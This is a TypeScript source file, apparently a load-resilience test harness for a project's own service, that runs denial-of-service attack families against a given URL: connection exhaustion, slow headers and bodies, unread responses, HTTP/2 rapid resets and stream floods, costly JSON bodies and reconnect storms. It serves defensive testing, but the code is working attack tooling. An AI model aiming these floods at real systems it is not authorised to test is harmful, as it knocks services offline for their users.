/** Families of attacks, run in a process of their own: `attackers.ts NAME URL`. Ends with its parent. */
import { once } from "node:events";
import net from "node:net";
import { setPriority } from "node:os";
import tls from "node:tls";
import { END_HEADERS, END_STREAM, frame, requestHeaders, Type } from "../../fixtures/http2-frames.js";
import * as http2 from "./attacking-http2.js";
import { BEGUN_CONNECTIONS, type FamilyName, Tally, TRANSFER_FACTORY } from "./families.js";

const [name = "", url = ""] = process.argv.slice(2);
const { hostname: host, port, protocol } = new URL(url);
const tally = new Tally();
const stopped = new AbortController();

const JSON_TYPE = { "content-type": "application/json" };
const DOCS = "/docs/static/swagger-ui-bundle.js";
/** Of a connection: the limit of the service. */
const STREAMS = 100;
const BODY_BYTES = 1024 * 1024;
const PERIOD_MS = 1_000;

const TICK_MS = 20;
/** 1,000 a second. */
const MAX_OPENS_PER_TICK = 20;
/** A fraction of the 511 that wait to be accepted, so that the queue is not what is attacked. */
const MAX_CONNECTING = 100;

/** Keeps `count` connections open, opening others for those that close, until it is stopped; then destroys them all. */
async function keep(count: number, use: (socket: net.Socket, index: number) => void): Promise<void> {
  const sockets = new Set<net.Socket>();
  let connecting = 0;
  const open = () => {
    const to = { host, port: Number(port), noDelay: true };
    const isTls = protocol === "https:";
    const socket = isTls ? tls.connect({ ...to, ALPNProtocols: ["h2"], rejectUnauthorized: false }) : net.connect(to);
    socket.on("error", () => undefined);
    sockets.add(socket);
    connecting++;
    let isConnected = false;
    socket.once(isTls ? "secureConnect" : "connect", () => {
      isConnected = true;
      connecting--;
      use(socket, tally.opened++);
      if (tally.opened === BEGUN_CONNECTIONS) process.send?.("begun");
    });
    socket.once("close", () => {
      sockets.delete(socket);
      tally.sentBytes += socket.bytesWritten;
      if (!isConnected) connecting--;
      if (stopped.signal.aborted) return;
      if (isConnected) tally.closed++;
      else tally.refused++;
    });
  };
  const timer = setInterval(() => {
    const max = Math.min(MAX_OPENS_PER_TICK, MAX_CONNECTING - connecting, count - sockets.size);
    for (let opens = 0; opens < max; opens++) open();
  }, TICK_MS);
  if (!stopped.signal.aborted) await once(stopped.signal, "abort");
  clearInterval(timer);
  // `once` would reject for one that fails meanwhile.
  const closes = [...sockets].map((socket) => new Promise((resolve) => void socket.once("close", resolve)));
  for (const socket of sockets) socket.destroy();
  await Promise.all(closes);
}

/** Counts responses by status. A status line that two reads share is not counted. */
function countResponses(socket: net.Socket, then?: () => void): void {
  socket.on("data", (chunk: Buffer) => {
    const matches = chunk.toString("latin1").matchAll(/HTTP\/1\.1 (\d{3})/g);
    let count = 0;
    for (const [, status = ""] of matches) {
      tally.answer(status);
      if (status !== "100") count++;
    }
    if (count > 0) then?.();
  });
}

/** Writes chunks as fast as the other end takes them, until the socket closes. */
function pump(socket: net.Socket, nextChunk: () => Buffer): void {
  const write = () => {
    if (socket.destroyed) return;
    if (socket.write(nextChunk())) setImmediate(write);
    else socket.once("drain", write);
  };
  write();
}

function encodeHead(method: string, path: string, headers: Readonly<Record<string, string>> = {}): Buffer {
  const lines = Object.entries({ Host: "localhost", ...headers }).map(([header, value]) => `${header}: ${value}\r\n`);
  return Buffer.from(`${method} ${path} HTTP/1.1\r\n${lines.join("")}\r\n`, "latin1");
}

const body = Buffer.from(TRANSFER_FACTORY.body);
const post = (path: string, length: number) =>
  encodeHead("POST", path, { "Content-Type": "application/json", "Content-Length": String(length) });
const call = Buffer.concat([post(TRANSFER_FACTORY.path, body.length), body]);
const postBlock = requestHeaders(TRANSFER_FACTORY.path, JSON_TYPE);
const getBlock = requestHeaders(DOCS, { ":method": "GET" });

/** Writes again and again until the connection closes. */
function repeat(socket: net.Socket, bytes: string | Buffer): void {
  const timer = setInterval(() => socket.write(bytes), PERIOD_MS);
  socket.once("close", () => clearInterval(timer));
}

/** Streams one after the other, beyond any limit. */
function pumpStreams(socket: net.Socket, framesOf: (id: number) => Buffer): void {
  let id = -1;
  socket.resume().write(http2.encodeStart());
  pump(socket, () => {
    tally.requests++;
    return framesOf((id += 2));
  });
}

/** Requests on all streams; where one ends, another follows. */
function fillStreams(
  socket: net.Socket,
  requests: readonly http2.Request[],
  options: Omit<http2.Http2Options, "onStreamEnd"> = {},
): void {
  let sent = 0;
  const next = () => {
    const request = requests[sent++ % requests.length];
    if (request !== undefined) send(request);
  };
  const send = http2.connectHttp2(socket, tally, { ...options, onStreamEnd: next });
  for (let stream = 0; stream < STREAMS; stream++) next();
}

const posted = { ":method": "POST", ":path": TRANSFER_FACTORY.path, ...JSON_TYPE };
const transfer = { headers: posted, body };
const docs = { headers: { ":path": DOCS } };
/** Of gRPC: an empty message. */
const watching = {
  headers: {
    ":method": "POST",
    ":path": "/offledger.watch.v1.WatchService/Watch",
    "content-type": "application/grpc",
    te: "trailers",
  },
  body: Buffer.alloc(5),
};

/**
 * As costly as a body can be: keys that are numbers, a number that is longer than a double, an escape. Of 922 KiB, and of as
 * many keys as are allowed.
 */
function heavyBodies(): readonly Buffer[] {
  const keys = (count: number) => Array.from({ length: count }, (_, at) => `"${at * 40_007}":1`).join();
  const json = (count: number) =>
    Buffer.from(`{"choiceArguments":{"x":"\\ud83d\\ude00","y":1234567890123456789,${keys(count)}}}`);
  return [json(67_000), json(4_900)];
}

/** DATA that belongs to no stream. */
const broken = frame(Type.data, 0, 0, "broken");

const attacks: Readonly<Record<FamilyName, () => Promise<unknown>>> = {
  connections: () => {
    const begins = [
      Buffer.alloc(0),
      Buffer.from("P"),
      http2.encodeStart(),
      encodeHead("GET", "/livez"),
      Buffer.concat([http2.encodeStart(0), broken]),
    ];
    return keep(9_000, (socket, index) => {
      socket.resume().write(begins[index % begins.length] ?? "");
    });
  },
  "slow headers": () =>
    keep(3_000, (socket, index) => {
      socket.resume().write(index % 2 === 0 ? "POST / HTTP/1.1\r\nX: " : http2.encodeStart());
      // The frame announces more than ever arrives.
      if (index % 2 === 1) socket.write(frame(Type.headers, 5, 1, Buffer.alloc(16_000)).subarray(0, 9));
      repeat(socket, "a");
    }),
  "slow bodies": () =>
    Promise.all([
      keep(1_200, (socket) => {
        countResponses(socket, () => socket.destroy());
        socket.write(post(TRANSFER_FACTORY.path, BODY_BYTES));
        socket.write(Buffer.alloc(BODY_BYTES - 1, " "));
      }),
      keep(10, (socket) =>
        fillStreams(socket, [{ headers: posted, body: Buffer.alloc(BODY_BYTES, " ") }], { isEndless: true }),
      ),
    ]),
  "unread responses": () =>
    Promise.all([
      keep(200, (socket, index) =>
        fillStreams(socket, index % 4 === 0 ? [transfer, docs] : [transfer], { responseWindow: 0 }),
      ),
      keep(20, (socket, index) => {
        socket.pause();
        pump(socket, () => (index % 2 === 0 ? call : encodeHead("GET", DOCS)));
      }),
    ]),
  resets: () =>
    Promise.all([
      keep(50, (socket) =>
        pumpStreams(socket, (id) =>
          Buffer.concat([frame(Type.headers, END_HEADERS, id, postBlock), frame(Type.reset, 0, id, http2.CANCEL)]),
        ),
      ),
      keep(50, (socket) => {
        tally.requests++;
        socket.write(call, () => socket.resetAndDestroy());
      }),
    ]),
  "TLS connections": () => keep(9_000, (socket) => socket.resume().write(http2.encodeStart())),
  // 1,000 a second, so that they are not refused as a flood.
  "watch streams": () =>
    keep(100, (socket) => {
      let open = 0;
      const send = http2.connectHttp2(socket, tally, { onStreamEnd: () => open-- });
      const timer = setInterval(() => {
        if (open >= STREAMS) return;
        open++;
        send(watching);
      }, PERIOD_MS / 10);
      socket.once("close", () => clearInterval(timer));
    }),
  "heavy bodies": () => {
    const requests = heavyBodies().map((content) =>
      Buffer.concat([post(TRANSFER_FACTORY.path, content.length), content]),
    );
    return keep(10, (socket, index) => {
      countResponses(socket);
      pump(socket, () => {
        tally.requests++;
        return requests[index % requests.length] ?? call;
      });
    });
  },
  reconnects: () =>
    keep(200, (socket) => {
      countResponses(socket, () => socket.destroy());
      tally.requests++;
      socket.write(call);
    }),
  floods: () =>
    Promise.all([
      keep(50, (socket) => {
        countResponses(socket);
        pump(socket, () => {
          tally.requests++;
          return call;
        });
      }),
      keep(25, (socket) => fillStreams(socket, [transfer])),
      keep(25, (socket) => pumpStreams(socket, (id) => frame(Type.headers, END_HEADERS | END_STREAM, id, getBlock))),
    ]),
};

try {
  // The service has its share of the machine, as if the attackers had another.
  setPriority(10);
} catch {
  // Not everywhere allowed.
}
process.on("disconnect", () => process.exit());
process.on("message", () => stopped.abort());
await attacks[name as FamilyName]();
process.send?.(tally, () => process.disconnect());
